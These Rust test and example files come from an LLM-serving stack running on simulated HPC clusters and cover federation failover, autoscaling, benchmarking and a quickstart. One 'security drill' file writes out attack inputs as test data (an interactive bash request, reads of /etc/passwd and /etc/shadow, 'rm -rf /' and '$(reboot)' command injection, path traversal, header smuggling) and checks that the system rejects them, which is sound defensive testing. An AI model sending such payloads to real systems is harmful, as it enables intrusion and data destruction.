        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");
    stack.gateway.add_api_key("fed-test", "tester");

    let mut client = Client::new(&stack.gateway_url());
    for _ in 0..3 {
        let resp = client.send(&chat_request("chat")).unwrap();
        assert_eq!(resp.status, 200, "{}", resp.body_str());
        assert!(resp.json().unwrap().get("choices").is_some());
    }

    // Status through the gateway (authenticated like any other route).
    let status = client
        .send(
            &Request::new("GET", "/federation/status").with_header("x-api-key", "fed-test"),
        )
        .unwrap();
    assert_eq!(status.status, 200);
    let v = status.json().unwrap();
    let clusters = v.get("clusters").unwrap();
    for name in ["hpc-a", "hpc-b"] {
        let c = clusters.get(name).unwrap_or_else(|| panic!("{name} missing"));
        assert_eq!(c.bool_field("healthy"), Some(true), "{name}");
        assert_eq!(c.bool_field("breaker_open"), Some(false), "{name}");
    }

    // Monitoring aggregates per-cluster + federation metrics.
    let mut mon = Client::new(&stack.monitoring_server.url());
    let text = mon.get("/metrics").unwrap().body_str().to_string();
    assert!(text.contains("federation_requests_total"), "{text}");
    assert!(text.contains("scheduler_runs_total{cluster=\"hpc-a\"}"), "{text}");
    assert!(text.contains("scheduler_runs_total{cluster=\"hpc-b\"}"), "{text}");

    stack.shutdown();
}

#[test]
fn model_namespace_is_partitioned_across_clusters() {
    // Cluster A hosts only svc-a, cluster B only svc-b — one shared
    // namespace, disjoint placement.
    let mut a = ClusterSpec::named("hpc-a", 4);
    a.services = vec!["svc-a".to_string()];
    let mut b = ClusterSpec::named("hpc-b", 4);
    b.services = vec!["svc-b".to_string()];
    let config = federated_config(
        vec![a, b],
        vec![profile_service("svc-a"), profile_service("svc-b")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");

    // Hit the router directly so the x-cluster tag is observable.
    let mut client = Client::new(&stack.router_url());
    let resp = client.send(&chat_request("svc-a")).unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("hpc-a"));
    let resp = client.send(&chat_request("svc-b")).unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("hpc-b"));

    stack.shutdown();
}

#[test]
fn cluster_outage_fails_over_to_survivor() {
    let config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");

    let mut client = Client::new(&stack.router_url());
    let resp = client.send(&chat_request("chat")).unwrap();
    assert_eq!(resp.status, 200);

    assert!(stack.kill_cluster("hpc-a"), "known cluster");
    assert!(!stack.kill_cluster("ghost"), "unknown cluster rejected");

    // Every post-outage request must succeed via the survivor — the
    // router retries on connection failure, so even requests that first
    // pick the dead cluster come back 200.
    for i in 0..10 {
        let resp = client.send(&chat_request("chat")).unwrap();
        assert_eq!(resp.status, 200, "request {i}: {}", resp.body_str());
        assert_eq!(
            resp.headers.get("x-cluster").map(String::as_str),
            Some("hpc-b"),
            "request {i} served by survivor"
        );
    }

    // The dead cluster's breaker opens once its failures accumulate
    // (probe failures + any spilled requests).
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let st = stack.cluster_registry.get("hpc-a").unwrap().status();
        if !st.healthy {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "prober never noticed the outage"
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    stack.shutdown();
}

#[test]
fn draining_cluster_sheds_traffic() {
    let config = federated_config(
        vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        vec![profile_service("chat")],
    );
    let stack = FederatedStack::launch(config).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(60)), "stack not ready");

    assert!(stack.cluster_registry.set_draining("hpc-a", true));
    // Refresh the capacity view synchronously so the router sees both
    // clusters' ready instances (the background prober may lag wait_ready).
    chat_ai::federation::probe_all(&stack.cluster_registry);
    let mut client = Client::new(&stack.router_url());
    for i in 0..6 {
        let resp = client.send(&chat_request("chat")).unwrap();
        assert_eq!(resp.status, 200, "request {i}");
        assert_eq!(
            resp.headers.get("x-cluster").map(String::as_str),
            Some("hpc-b"),
            "draining cluster must not take fresh traffic while b is up"
        );
    }
    stack.shutdown();
}
