//! Federation quickstart: launch TWO full HPC clusters behind one gateway
//! and one federation router, chat through the shared model namespace,
//! drain a cluster, then kill it outright and watch traffic fail over —
//! no client-visible downtime.
//!
//! ```bash
//! cargo run --release --example federation_demo
//! ```

use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::FederatedStack;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;

fn main() -> anyhow::Result<()> {
    chat_ai::util::logging::init();
    println!("== Chat AI federation demo ==");
    println!("launching two clusters (each: sshd, Slurm, scheduler, LLM");
    println!("servers, its own SSH channel) + router, gateway, prober ...");

    // Two clusters, profile-backed model → fast bring-up, no artifacts.
    let mut config = StackConfig::federated_demo();
    config.services[0].model = "intel-neural-7b".into();
    let stack = FederatedStack::launch(config)?;
    anyhow::ensure!(
        stack.wait_ready(Duration::from_secs(120)),
        "clusters did not become ready"
    );
    let service = stack.config.services[0].name.clone();
    println!("service '{service}' ready on both clusters\n");

    let chat = |client: &mut Client| -> anyhow::Result<(u16, String)> {
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count for me")],
            )
            .set("max_tokens", 8u64);
        let req = Request::new("POST", &format!("/{service}/v1/chat/completions"))
            .with_header("x-api-key", "sk-fed")
            .with_body(body.to_string().into_bytes());
        let resp = client.send(&req)?;
        let cluster = resp
            .headers
            .get("x-cluster")
            .cloned()
            .unwrap_or_else(|| "?".into());
        Ok((resp.status, cluster))
    };

    stack.gateway.add_api_key("sk-fed", "demo-user");
    // Hit the router directly so the x-cluster tag is visible (the gateway
    // path works identically, minus the debug header).
    let mut client = Client::new(&stack.router_url());

    println!("-- normal operation: requests spread by availability/load --");
    for i in 0..4 {
        let (status, cluster) = chat(&mut client)?;
        println!("  request {i}: {status} via {cluster}");
    }

    println!("\n-- drain hpc-a (e.g. for maintenance) --");
    stack.cluster_registry.set_draining("hpc-a", true);
    chat_ai::federation::probe_all(&stack.cluster_registry);
    for i in 0..3 {
        let (status, cluster) = chat(&mut client)?;
        println!("  request {i}: {status} via {cluster}   (hpc-a shedding)");
    }
    stack.cluster_registry.set_draining("hpc-a", false);

    println!("\n-- kill hpc-a outright (cluster outage) --");
    stack.kill_cluster("hpc-a");
    for i in 0..4 {
        let (status, cluster) = chat(&mut client)?;
        anyhow::ensure!(status == 200, "request {i} failed during outage");
        println!("  request {i}: {status} via {cluster}   (failover)");
    }

    println!("\nfederation status:");
    let status = stack.router.status_json();
    for name in ["hpc-a", "hpc-b"] {
        if let Some(c) = status.get("clusters").and_then(|cs| cs.get(name)) {
            println!(
                "  {name}: healthy={} breaker_open={} requests={} failures={}",
                c.bool_field("healthy").unwrap_or(false),
                c.bool_field("breaker_open").unwrap_or(false),
                c.u64_field("requests").unwrap_or(0),
                c.u64_field("request_failures").unwrap_or(0),
            );
        }
    }
    println!(
        "router: {} requests, {} failovers",
        status.u64_field("requests").unwrap_or(0),
        status.u64_field("failovers").unwrap_or(0),
    );

    stack.shutdown();
    println!("federation demo done");
    Ok(())
}
