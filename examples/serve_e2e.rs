//! End-to-end serving driver (the repo's headline validation run): launch
//! the full stack with a real AOT-compiled model, drive batched chat
//! traffic through every hop, and report latency/throughput — recorded in
//! EXPERIMENTS.md.
//!
//! ```bash
//! make artifacts && cargo run --release --example serve_e2e
//! ```

use std::sync::Arc;
use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::Stack;
use chat_ai::util::hist::Histogram;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::workload::{run_closed_loop, LoadGenConfig};

fn main() -> anyhow::Result<()> {
    chat_ai::util::logging::init();
    println!("== serve_e2e: full-stack serving of the real AOT model ==");
    let mut config = StackConfig::demo();
    config.services[0].max_instances = 2;
    let stack = Stack::launch(config)?;
    anyhow::ensure!(stack.wait_ready(Duration::from_secs(180)), "not ready");
    let service = stack.config.services[0].name.clone();
    stack.gateway.add_api_key("bench", "bench-user");
    let gateway = stack.gateway_url();
    println!("stack ready; service = {service}\n");

    // --- single-request latency (first token via streaming) -------------
    let first_token = Arc::new(Histogram::new());
    for _ in 0..20 {
        let mut client = Client::new(&gateway);
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "Hello!")],
            )
            .set("max_tokens", 16u64)
            .set("stream", true);
        let req = Request::new("POST", &format!("/{service}/v1/chat/completions"))
            .with_header("x-api-key", "bench")
            .with_body(body.to_string().into_bytes());
        let t0 = std::time::Instant::now();
        let mut first: Option<u64> = None;
        client.send_streaming(&req, |_chunk| {
            first.get_or_insert(t0.elapsed().as_micros() as u64);
        })?;
        if let Some(us) = first {
            first_token.record(us);
        }
    }
    println!("first token (stream, through all hops): {}", first_token.summary_ms());

    // --- sustained batched throughput -----------------------------------
    for concurrency in [1usize, 4, 8] {
        let gateway = gateway.clone();
        let service = service.clone();
        let result = run_closed_loop(
            &LoadGenConfig {
                concurrency,
                duration: Duration::from_secs(6),
                warmup: Duration::from_secs(1),
            },
            move |_| {
                let mut client = Client::new(&gateway);
                let service = service.clone();
                move || {
                    let body = Json::obj()
                        .set(
                            "messages",
                            vec![Json::obj()
                                .set("role", "user")
                                .set("content", "Tell me something.")],
                        )
                        .set("max_tokens", 16u64);
                    let req = Request::new(
                        "POST",
                        &format!("/{service}/v1/chat/completions"),
                    )
                    .with_header("x-api-key", "bench")
                    .with_body(body.to_string().into_bytes());
                    client.send(&req).map(|r| r.status == 200).unwrap_or(false)
                }
            },
        );
        println!("{}", result.summary(&format!("concurrency {concurrency:2}")));
    }

    // --- engine-side stats ------------------------------------------------
    println!("\ntoken throughput (engine view):");
    let mut mon = Client::new(&stack.monitoring_server.url());
    for line in mon.get("/metrics")?.body_str().lines() {
        if line.starts_with("scheduler_") || line.starts_with("hpc_proxy_") {
            println!("  {line}");
        }
    }
    stack.shutdown();
    println!("\nserve_e2e done");
    Ok(())
}
