//! Autoscaling demo (§5.6, §7.1.1): watch the scheduler scale a service
//! up under bursty load and back down when demand drains, then survive a
//! GPU-node failure — all against the Slurm simulator in virtual time.

use std::sync::{Arc, Mutex};

use chat_ai::scheduler::{
    DemandTracker, InstanceLauncher, RoutingTable, ServiceConfig, ServiceScheduler,
};
use chat_ai::slurm::{JobId, Slurmctld};
use chat_ai::util::clock::{Clock, SimClock};

/// Instant launcher: instances become ready on the second probe.
struct FastLauncher {
    next_port: std::sync::atomic::AtomicU64,
    probes: Mutex<std::collections::HashMap<JobId, u32>>,
}

impl InstanceLauncher for FastLauncher {
    fn launch(&self, _svc: &ServiceConfig, _job: JobId, _node: &str, _port: u16) {}
    fn probe(&self, job: JobId) -> Option<std::net::SocketAddr> {
        let mut probes = self.probes.lock().unwrap();
        let n = probes.entry(job).or_insert(0);
        *n += 1;
        (*n >= 2).then(|| {
            let p = self
                .next_port
                .fetch_add(1, std::sync::atomic::Ordering::Relaxed) as u16;
            std::net::SocketAddr::from(([127, 0, 0, 1], 20000 + p))
        })
    }
    fn stop(&self, _job: JobId) {}
}

fn main() {
    chat_ai::util::logging::init();
    println!("== autoscaling demo (virtual time) ==");
    let clock = SimClock::new();
    let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), 4)));
    let routing = Arc::new(RoutingTable::new());
    let demand = Arc::new(DemandTracker::new(60_000));
    let launcher = Arc::new(FastLauncher {
        next_port: std::sync::atomic::AtomicU64::new(0),
        probes: Mutex::new(Default::default()),
    });
    let config = ServiceConfig {
        max_instances: 4,
        target_concurrency: 4.0,
        time_limit: 3_600_000,
        renew_margin: 300_000,
        ..ServiceConfig::new("llama3-70b", "llama3-70b", 2)
    };
    let scheduler = ServiceScheduler::new(
        vec![config],
        ctld.clone(),
        routing.clone(),
        demand.clone(),
        clock.clone(),
        launcher,
        7,
    );

    let mut show = |label: &str| {
        let (total, ready) = routing.counts("llama3-70b");
        let (gpus, free) = ctld.lock().unwrap().gpu_utilization();
        println!(
            "t={:>6}s  {label:<28} instances={total} ready={ready}  gpus {}/{} used  avg_conc={:.1}",
            clock.now_ms() / 1000,
            gpus - free,
            gpus,
            demand.avg_concurrency("llama3-70b", clock.now_ms()),
        );
    };

    // Phase 1: idle bring-up to min_instances.
    for _ in 0..5 {
        scheduler.run();
        clock.advance_by(5_000);
    }
    show("bring-up (min instances)");

    // Phase 2: burst of 20 concurrent requests held for 2 minutes.
    for _ in 0..20 {
        demand.begin("llama3-70b", clock.now_ms());
    }
    for _ in 0..24 {
        scheduler.run();
        clock.advance_by(5_000);
    }
    show("burst: 20 concurrent");

    // Phase 3: load drains; scale-down (jobs expire, not cancelled).
    for _ in 0..20 {
        demand.end("llama3-70b", clock.now_ms());
    }
    for _ in 0..30 {
        scheduler.run();
        clock.advance_by(20_000);
    }
    show("drained (scale-down)");

    // Phase 4: node failure + recovery.
    let victim = routing.entries_for("llama3-70b")[0].node.clone();
    ctld.lock().unwrap().fail_node(&victim);
    println!("!! failed node {victim}");
    for _ in 0..6 {
        scheduler.run();
        clock.advance_by(5_000);
    }
    show("after node failure");

    let stats = &scheduler.stats;
    use std::sync::atomic::Ordering::Relaxed;
    println!(
        "\nscheduler: runs={} submitted={} scale_ups={} scale_downs={} recovered_failures={}",
        stats.runs.load(Relaxed),
        stats.submitted.load(Relaxed),
        stats.scale_ups.load(Relaxed),
        stats.scale_downs.load(Relaxed),
        stats.recovered_failures.load(Relaxed),
    );
}
