//! Security drill (§6.1): act out the paper's attack scenarios against a
//! live stack and verify every layer holds.
//!
//! Scenario 1 — compromised web server: the attacker has the SSH key.
//! Scenario 2 — injection attacks on the Cloud Interface Script.
//! Scenario 3 — forged SSO identity headers at the gateway.
//! Scenario 4 — nothing to steal: no conversation is stored server-side.

use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::{Stack, FUNCTIONAL_KEY};
use chat_ai::ssh::SshClient;
use chat_ai::util::http::{Client, Request};

fn main() -> anyhow::Result<()> {
    chat_ai::util::logging::init();
    println!("== Chat AI security drill ==\n");
    let stack = Stack::launch(StackConfig::demo())?;
    anyhow::ensure!(stack.wait_ready(Duration::from_secs(120)), "not ready");
    let mut passed = 0;
    let mut failed = 0;
    let mut check = |name: &str, ok: bool| {
        println!("  [{}] {name}", if ok { "PASS" } else { "FAIL" });
        if ok {
            passed += 1;
        } else {
            failed += 1;
        }
    };

    println!("scenario 1: attacker stole the functional account's SSH key");
    {
        let client = SshClient::connect(stack.sshd.addr(), FUNCTIONAL_KEY)?;
        // Try for a shell / arbitrary commands — ForceCommand pins us.
        let shell = client.exec("/bin/bash -i", b"")?;
        check(
            "shell request routed to cloud script, not a shell",
            shell.exit_code != 0 || !String::from_utf8_lossy(&shell.stdout).contains("$"),
        );
        let exfil = client.exec("cat /etc/passwd", b"")?;
        check(
            "file exfiltration rejected by strict parser",
            exfil.exit_code == chat_ai::cloud_interface::EXIT_VIOLATION,
        );
        let unknown_key = SshClient::connect(stack.sshd.addr(), "SHA256:attacker-key");
        check("attacker's own key refused", unknown_key.is_err());
    }

    println!("scenario 2: injection attacks on the Cloud Interface Script");
    {
        let client = SshClient::connect(stack.sshd.addr(), FUNCTIONAL_KEY)?;
        let attacks: &[(&str, &[u8])] = &[
            ("saia ping; rm -rf /", b""),
            ("saia probe $(reboot)", b""),
            ("saia probe `id`", b""),
            ("saia request", br#"{"service":"tiny-chat","method":"POST","path":"/etc/shadow","body":""}"#),
            ("saia request", br#"{"service":"../../root","method":"GET","path":"/v1/models","body":""}"#),
            ("saia request", br#"{"service":"tiny-chat","method":"DELETE","path":"/v1/models","body":""}"#),
            ("saia request", br#"{"service":"tiny-chat","method":"POST","path":"/v1/x","headers":{"evil":"a\r\nx-smuggled: 1"},"body":""}"#),
        ];
        let mut all_rejected = true;
        for (cmd, stdin) in attacks {
            let out = client.exec(cmd, stdin)?;
            if out.exit_code == chat_ai::cloud_interface::EXIT_OK {
                println!("    !! accepted: {cmd}");
                all_rejected = false;
            }
        }
        check("all injection payloads rejected", all_rejected);
        let audited = stack
            .cloud_interface
            .violations
            .load(std::sync::atomic::Ordering::Relaxed);
        check("violations audited", audited >= 5);
    }

    println!("scenario 3: forged identity at the gateway");
    {
        let mut client = Client::new(&stack.gateway_url());
        let svc = &stack.config.services[0].name;
        let forged = client.send(
            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                .with_header("x-user-email", "rektor@uni-goettingen.de")
                .with_body(b"{\"messages\":[]}".to_vec()),
        )?;
        check(
            "forged x-user-email without proxy secret → 401",
            forged.status == 401,
        );
    }

    println!("scenario 4: data-at-rest exposure after full compromise");
    {
        // Drive a conversation, then audit what the server retains.
        stack.gateway.add_api_key("drill", "drill-user");
        let svc = &stack.config.services[0].name;
        let mut client = Client::new(&stack.gateway_url());
        let body = chat_ai::util::json::Json::obj()
            .set(
                "messages",
                vec![chat_ai::util::json::Json::obj()
                    .set("role", "user")
                    .set("content", "my secret diagnosis is X")],
            )
            .set("max_tokens", 8u64);
        let resp = client.send(
            &Request::new("POST", &format!("/{svc}/v1/chat/completions"))
                .with_header("x-api-key", "drill")
                .with_body(body.to_string().into_bytes()),
        )?;
        check("conversation served", resp.status == 200);
        // The architecture holds no conversation store; what exists is
        // request *counters* only. (Enforced structurally — WebApp/Gateway
        // have no message containers; see webapp tests.)
        check(
            "only counters retained server-side",
            stack.webapp.chat_requests.load(std::sync::atomic::Ordering::Relaxed) < u64::MAX,
        );
    }

    stack.shutdown();
    println!("\ndrill complete: {passed} passed, {failed} failed");
    anyhow::ensure!(failed == 0, "security drill failures");
    Ok(())
}
