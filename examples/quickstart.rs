//! Quickstart: launch the full Chat AI stack in-process, log in through
//! SSO, and hold a chat conversation with the real (tiny) AOT-compiled
//! model — every hop of Figure 1 exercised, in under a minute.
//!
//! ```bash
//! make artifacts && cargo run --release --example quickstart
//! ```

use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::Stack;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;

fn main() -> anyhow::Result<()> {
    chat_ai::util::logging::init();
    println!("== Chat AI quickstart ==");
    println!("launching the stack (SSO, gateway, web app, HPC proxy, sshd,");
    println!("Slurm simulator, scheduler, LLM servers) ...");
    let stack = Stack::launch(StackConfig::demo())?;
    anyhow::ensure!(
        stack.wait_ready(Duration::from_secs(120)),
        "model instances did not become ready"
    );
    let service = stack.config.services[0].name.clone();
    println!("service '{service}' is ready\n");

    // --- a web user: SSO login, then chat through auth proxy → gateway ---
    stack.sso.register_user("ada", "ada@uni-goettingen.de");
    let mut browser = Client::new(&stack.auth_url());
    let login = browser
        .post_json("/sso/login", &Json::obj().set("username", "ada"))?
        .json()
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let session = login.str_field("session").unwrap().to_string();
    println!("logged in via SSO (session {}...)", &session[..8]);

    let chat = |browser: &mut Client, text: &str| -> anyhow::Result<String> {
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", text)],
            )
            .set("max_tokens", 24u64)
            .set("temperature", 0.8)
            .set("seed", 7u64);
        let req = Request::new("POST", &format!("/{service}/v1/chat/completions"))
            .with_header("cookie", &format!("session={session}"))
            .with_header("content-type", "application/json")
            .with_body(body.to_string().into_bytes());
        let resp = browser.send(&req)?;
        anyhow::ensure!(resp.status == 200, "status {}: {}", resp.status, resp.body_str());
        let v = resp.json().map_err(|e| anyhow::anyhow!("{e}"))?;
        Ok(v.get("choices").unwrap().as_arr().unwrap()[0]
            .get("message")
            .unwrap()
            .str_field("content")
            .unwrap_or("")
            .to_string())
    };

    for prompt in ["Hello there!", "What is an HPC cluster?"] {
        let t0 = std::time::Instant::now();
        let reply = chat(&mut browser, prompt)?;
        println!(
            "user> {prompt}\nmodel({:.0}ms)> {:?}\n",
            t0.elapsed().as_millis(),
            reply
        );
    }
    println!("(random weights — the *plumbing* is what just worked: browser");
    println!(" → SSO → gateway → HPC proxy → SSH/ForceCommand → cloud script");
    println!(" → routing table → LLM server → PJRT-compiled transformer)");

    // --- an API user with a key, straight at the gateway ---
    stack.gateway.add_api_key("sk-demo", "api-researcher");
    let mut api = Client::new(&stack.gateway_url());
    let body = Json::obj()
        .set("prompt", "2 + 2 =")
        .set("max_tokens", 8u64);
    let req = Request::new("POST", &format!("/{service}/v1/completions"))
        .with_header("authorization", "Bearer sk-demo")
        .with_body(body.to_string().into_bytes());
    let resp = api.send(&req)?;
    println!("API user completion: status {}", resp.status);

    println!("\nmetrics snapshot:\n{}", {
        let mut c = Client::new(&stack.monitoring_server.url());
        c.get("/metrics")?.body_str().to_string()
    });
    stack.shutdown();
    println!("quickstart done");
    Ok(())
}
